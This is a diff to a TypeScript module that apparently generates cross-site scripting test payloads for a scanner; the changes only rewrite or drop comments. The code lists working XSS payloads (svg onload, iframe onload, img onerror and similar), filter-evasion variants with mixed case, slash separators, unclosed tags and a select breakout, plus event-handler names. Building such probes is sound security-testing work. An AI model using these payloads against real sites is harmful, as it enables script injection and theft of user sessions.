@@ -3,7 +3,6 @@ import { callMarker, contextOf, endOf, type XssPayload } from './_xssPayloads.ts
 
 type Part = readonly [runs: XssPayload['runs'], write: (call: string) => string]
 
-/** Elements and handlers, each pair for filters that know the others. */
 const elements: readonly Part[] = [
   ['itself', (call) => `<svg onload=${call}>`],
   ['itself', (call) => `<details open ontoggle=${call}>`],
@@ -22,7 +21,7 @@ const elements: readonly Part[] = [
   ['itself', (call) => `<iframe onload=${call}></iframe>`],
 ]
 
-/** The same elements as filters overlook them: other separators, other letters, taken apart, never closed. */
+/** Filter evasions: other separators, mixed case, nested or unclosed tags. */
 const forms: readonly Part[] = [
   ['itself', (call) => `<svg/onload=${call}>`],
   ['itself', (call) => `<sVg oNlOaD=${call}>`],
@@ -36,7 +35,6 @@ const forms: readonly Part[] = [
   ['itself', (call) => `<img src onerror=${call} //`],
 ]
 
-/** Handlers that an attribute may be left for, from the likeliest. */
 const handlers: readonly string[] = [
   'onfocus',
   'onpointerenter',
@@ -49,15 +47,12 @@ const handlers: readonly string[] = [
   'onbeforetoggle',
 ]
 
-/**
- * Lists texts for a place in which `<` came back and an element did not, or a quote did and a handler did not: many in
- * one request, of which the response shows the one that gets through. The last has no event, and shows that markup does.
- */
+/** Lists evasions for a context in which `<` or a quote survived. The last proves markup only. */
 export function listEvasions(place: HtmlPlace): readonly XssPayload[] {
   const context = contextOf(place)
   const end = endOf(place)
   const outside: readonly XssPayload[] = [
-    // Browsers drop elements inside a list of options.
+    // Browsers drop elements inside `select`.
     ...(end === '' ? [together(context, '</select></svg></math>', elements.slice(0, 1), 2)] : []),
     together(context, end, elements, 2),
     together(context, end, forms, 2 + elements.length),
@@ -92,7 +87,7 @@ function handlersIn(quote: string, context: string): XssPayload {
     parts: Object.fromEntries(
       handlers.map((name) => [
         numberOf(name),
-        { context, runs: 'event' as const, write: (word: string) => of([name], word) }, // `as`: one of the ways.
+        { context, runs: 'event' as const, write: (word: string) => of([name], word) },
       ]),
     ),
   }
